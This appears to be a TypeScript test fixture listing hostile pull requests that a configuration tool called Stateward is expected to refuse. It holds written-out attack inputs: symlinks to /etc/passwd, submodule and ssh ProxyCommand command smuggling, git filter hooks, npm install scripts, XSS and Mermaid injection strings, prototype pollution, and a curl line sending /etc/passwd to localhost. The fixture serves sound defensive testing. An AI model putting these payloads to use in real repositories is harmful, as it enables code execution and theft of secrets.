// Pull requests that somebody made to do harm: what each changes, as entries of a Git tree, and what is to become of it.
import { stringify } from "yaml";
import { lamp, localHost } from "../support/world.ts";

export interface Entry {
  readonly path: string;
  /** As Git has it: 100644 a file, 100755 an executable one, 120000 a link, 160000 a submodule. */
  readonly mode?: "100644" | "100755" | "120000" | "160000";
  /** Null removes the path. */
  readonly data: string | Buffer | null;
}

export interface HostilePull {
  readonly name: string;
  readonly entries: readonly Entry[];
  /** The problem that refuses it; null for what means nothing to Stateward, or is text that is shown as what it is. */
  readonly code: string | null;
  /** Said of it where it is not refused. */
  readonly says?: RegExp;
}

/** A secret that a branch would like to see printed. */
export const canary = "canary-3b9d41c7";
/** Whatever a branch would run makes this file. */
export const marker = "/tmp/stateward-hostile-pull";

const harm = `touch ${marker}; #`;
const host = (more: object): string => stringify({ ...localHost("a", { lamp: "off" }), ...more });
const file = (path: string, data: string | Buffer | object): Entry => ({
  path,
  data: typeof data === "string" || Buffer.isBuffer(data) ? data : stringify(data),
});
const one = (name: string, code: string | null, ...entries: Entry[]): HostilePull => ({ name, entries, code });
const inHost = (name: string, code: string | null, more: object): HostilePull =>
  one(name, code, file("hosts/a.yaml", host(more)));
const inMachine = (name: string, code: string | null, states: object): HostilePull =>
  one(name, code, file("machines/lamp.yaml", { ...lamp, states: { ...lamp.states, ...states } }));
const stepOf = (step: object): object => ({ on: { enter: [{ from: "off", steps: [step] }] } });
const guardOf = (when: string): object => ({ on: { enter: [{ from: "off", when, steps: [{ run: "x" }] }] } });

const entries: readonly HostilePull[] = [
  one("a link to a file of the machine", "SW503", { path: "hosts/a.yaml", mode: "120000", data: "/etc/passwd" }),
  one("a link out of the repository", "SW503", { path: "machines/b.yaml", mode: "120000", data: "../../x.yaml" }),
  one(
    "a folder that is a link",
    "SW503",
    { path: "hosts/a.yaml", data: null },
    { path: "hosts", mode: "120000", data: "/etc" },
  ),
  one("settings that are a link", "SW503", { path: "stateward.yaml", mode: "120000", data: "/proc/self/environ" }),
  one("a submodule", "SW503", { path: "hosts/more", mode: "160000", data: "a".repeat(40) }),
  one(
    "a submodule whose address runs a program",
    "SW503",
    file(".gitmodules", `[submodule "m"]\n\tpath = machines/m\n\turl = ext::sh -c '${harm}'\n\tupdate = !${harm}\n`),
    { path: "machines/m", mode: "160000", data: "b".repeat(40) },
  ),
  one("an executable file", "SW504", { path: "hosts/b.yaml", mode: "100755", data: `#!/bin/sh\n${harm}\n` }),
  one(
    "attributes that name a filter",
    null,
    file(".gitattributes", "* filter=evil diff=evil merge=evil export-subst ident working-tree-encoding=UTF-16\n"),
    file(".gitconfig", `[filter "evil"]\n\tsmudge = ${harm}\n\tclean = ${harm}\n[diff "evil"]\n\ttextconv = ${harm}\n`),
  ),
  one("attributes beside hosts", null, file("hosts/.gitattributes", "*.yaml filter=evil text eol=crlf\n")),
  one("a hook", null, { path: ".git-hooks/post-checkout", mode: "100755", data: `#!/bin/sh\n${harm}\n` }),
  one(
    "a package that runs when it is installed",
    null,
    file("package.json", JSON.stringify({ scripts: { preinstall: harm, prepare: harm } })),
    file(".npmrc", `script-shell=${marker}\n//registry.example.org/:_authToken=${canary}\n`),
  ),
];

const files: readonly HostilePull[] = [
  one("a file of 300 KB", "SW001", file("hosts/b.yaml", `host: b # ${"x".repeat(300_000)}\n`)),
  one("a file of 20 MB", "SW001", file("hosts/b.yaml", Buffer.alloc(20_000_000, "x: y\n"))),
  one("a document nested 800 deep", "SW002", file("hosts/b.yaml", `host: ${"[".repeat(800)}${"]".repeat(800)}\n`)),
  one(
    "20,000 keys",
    "SW003",
    file("hosts/b.yaml", `host: b\nvars:\n${Array.from({ length: 20_000 }, (_, i) => `  k${i}: v\n`).join("")}`),
  ),
  one("aliases that multiply", "SW004", file("hosts/b.yaml", "a: &a [x, x]\nb: &b [*a, *a]\nhost: *b\n")),
  one("a merge key", "SW004", file("hosts/b.yaml", "base: &b { host: b }\n<<: *b\n")),
  one("a tag that makes a function", "SW005", file("hosts/b.yaml", "host: !!js/function 'function(){}'\n")),
  one("no YAML", "SW006", file("hosts/b.yaml", "host: [b\n  : {\n")),
  one("a key that stands twice", "SW007", file("hosts/b.yaml", "host: b\nhost: a\n")),
  one("two documents", "SW008", file("hosts/b.yaml", "host: b\n---\nhost: c\n")),
  one(
    "bytes that are not UTF-8",
    "SW009",
    file("hosts/b.yaml", Buffer.from([0x68, 0x3a, 0x20, 0xff, 0xfe, 0xc0, 0x0a])),
  ),
  one("UTF-16", "SW009", file("hosts/b.yaml", Buffer.from("\ufeffhost: b\n", "utf16le"))),
  one("a key named __proto__", "SW101", file("hosts/b.yaml", "host: b\n__proto__: { isAdmin: true }\n")),
  one("a path with a control character", "SW505", file("hosts/b\u001b[2J.yaml", host({ host: "b" }))),
  one("a path that breaks a line", "SW505", file("hosts/b\n::error::x.yaml", host({ host: "b" }))),
  one("a path that begins with a dash", "SW505", file("hosts/-rf.yaml", host({ host: "b" }))),
  one("two paths that differ in case", "SW506", file("hosts/A.yaml", host({ host: "b" }))),
];

const injection = '"]:::x --> evil; click s0 "javascript:alert(1)" %%{init: {"securityLevel": "loose"}}%%';
const markup = `</code></details><img src=x onerror=alert(1)> [x](javascript:alert(1)) @everyone #1 \`\`\` ${injection}`;

const names: readonly HostilePull[] = [
  inHost("a host whose name breaks a line", "SW105", { host: "a\n::add-mask::x" }),
  inHost("a host whose name paints the terminal", "SW105", { host: "a\u001b[31m\u0007" }),
  inHost("a host whose name reads backwards", "SW105", { host: "a\u202ey" }),
  inHost("a host whose name is a link", "SW105", { host: "[a](javascript:alert(1))" }),
  inHost("a host whose name is an image", "SW105", { host: "<img src=x onerror=alert(1)>" }),
  inHost("a host whose name closes code", "SW105", { host: "a`|`b" }),
  inHost("a host whose name calls everyone", "SW105", { host: "@everyone" }),
  inHost("a host whose name is a path", "SW105", { host: "../../etc/passwd" }),
  inHost("a host whose name is an option", "SW105", { host: "--upload-pack=x" }),
  inHost("a transport that is a program", "SW104", { transport: "ext::sh -c x" }),
  inHost("a region that is markup", "SW105", { region: "<b>east</b>" }),
  inHost("a host that is called constructor", "SW105", { host: "constructor" }),
  inMachine("a state whose name ends a graph", "SW105", { [injection]: { enter: [{ from: "on", steps: [] }] } }),
  inMachine("a state whose name breaks a line", "SW105", { "x\n  y --> z": { enter: [{ from: "on", steps: [] }] } }),
  one("a machine whose name is markup", "SW105", file("machines/evil.yaml", { ...lamp, machine: markup })),
  inHost("an address that is an option of ssh", "SW105", { transport: "ssh", address: `-oProxyCommand=${harm}` }),
  inHost("an address that breaks a line", "SW105", { transport: "ssh", address: "10.0.0.1\nProxyCommand x" }),
];

const meanings: readonly HostilePull[] = [
  inMachine("a guard that is a program", "SW401", guardOf("process.exit(1)")),
  inMachine("a guard of nested loops", "SW403", guardOf("hosts.all(a, hosts.all(b, hosts.all(c, a.name != b.name)))")),
  inMachine("a guard with an expression that takes for ever", "SW401", guardOf('host.name.matches("(?=a)(a+)+$")')),
  inMachine("a guard that is no condition", "SW402", guardOf('"yes"')),
  inMachine("a secret in a list of arguments", "SW404", stepOf({ run: "login ${host.vars.password}" })),
  inMachine("a step that is no step", "SW108", stepOf({ run: harm, shell: harm })),
  one("settings of nobody", "SW101", file("stateward.yaml", "hooks: { post_merge: 'touch x' }\n")),
  one(
    "signers outside of the repository",
    "SW105",
    file("stateward.yaml", "verify: { signers: ../../etc/passwd, since: 0123456789012345678901234567890123456789 }\n"),
  ),
  one(
    "signers that are an option",
    "SW105",
    file("stateward.yaml", "verify: { signers: --help, since: 0123456789012345678901234567890123456789 }\n"),
  ),
  one(
    "an end of a window that never comes",
    "SW105",
    file("stateward.yaml", "windows: [{ allow: { cron: '99 99 99 99 99', for: 1h } }]\n"),
  ),
];

const words: readonly HostilePull[] = [
  {
    ...one("a limit that lets everything through", null, file("stateward.yaml", "brakes: { max_moved: 100% }\n")),
    says: /settings|limit/i,
  },
  {
    ...one("its own key among the allowed signers", null, file("allowed_signers", "mallory ssh-ed25519 AAAA\n")),
    says: /sign/i,
  },
  {
    ...one("every host removed", null, { path: "hosts/a.yaml", data: null }, { path: "hosts/c.yaml", data: null }),
    says: /remove/i,
  },
  inHost("a description that is markup", null, { description: markup, targets: { lamp: "on" } }),
  inHost("vars that are markup", null, { vars: { note: markup, more: "\u202e\u001b[31m" }, targets: { lamp: "on" } }),
  inHost("an owner who is everyone", null, { owner: "@org/everyone", targets: { lamp: "on" } }),
  inHost("secrets in vars", null, { vars: { password: canary, api_token: canary }, targets: { lamp: "on" } }),
  inMachine("a step with markup and a secret", null, {
    on: { description: markup, enter: [{ from: "off", steps: [{ run: "x", env: { API_TOKEN: canary } }] }] },
  }),
  inMachine("a program in a step", null, stepOf({ shell: `${harm}\ncurl http://127.0.0.1:9/$(cat /etc/passwd)` })),
];

export const hostilePulls: readonly HostilePull[] = [...entries, ...files, ...names, ...meanings, ...words];
